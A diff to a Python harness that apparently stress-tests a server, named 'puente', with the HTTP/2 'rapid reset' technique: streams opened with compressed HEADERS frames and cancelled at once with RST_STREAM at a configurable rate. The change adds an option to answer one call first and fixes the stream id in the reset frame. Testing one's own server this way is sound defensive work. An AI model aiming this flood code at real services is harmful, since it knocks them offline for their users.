@@ -34,10 +34,13 @@ def repeatedly(target, one, count):
     return count
 
 
-def warmed(connection):
-    """The headers of a call are in the dynamic table: a further call costs 15 bytes."""
+def warmed(connection, named=False):
+    """The headers of a call are in the dynamic table: a further call costs 15 bytes. `named`: one call is answered first."""
     if connection.next_stream == 1:
-        connection.send(frame(HEADERS, END_HEADERS, connection.stream(), request(STATUS, index=True)) + frame(RST_STREAM, 0, 1, b"\0\0\0\x08"))
+        if named:
+            connection.answer(connection.call(STATUS, message(b"")), 5)
+        stream = connection.stream()
+        connection.send(frame(HEADERS, END_HEADERS, stream, request(STATUS, index=True)) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
 
 
 def rapid_reset(target):
@@ -46,7 +49,7 @@ def rapid_reset(target):
     began = time.monotonic()
 
     def one(connection):
-        warmed(connection)
+        warmed(connection, target.named)
         out = bytearray()
         for _ in range(150):
             stream = connection.stream()
@@ -281,6 +284,7 @@ class Target:
     def __init__(self, port, certificates, partner, seconds):
         self.port, self.certificates, self.partner = int(port), certificates, partner
         self.rate = float(os.environ.get("PUENTE_ATTACK_RATE", 15000))
+        self.named = bool(os.environ.get("PUENTE_ATTACK_NAMED"))
         self.size = int(os.environ.get("PUENTE_ATTACK_SIZE", 12))
         self.end = time.monotonic() + float(seconds)
 
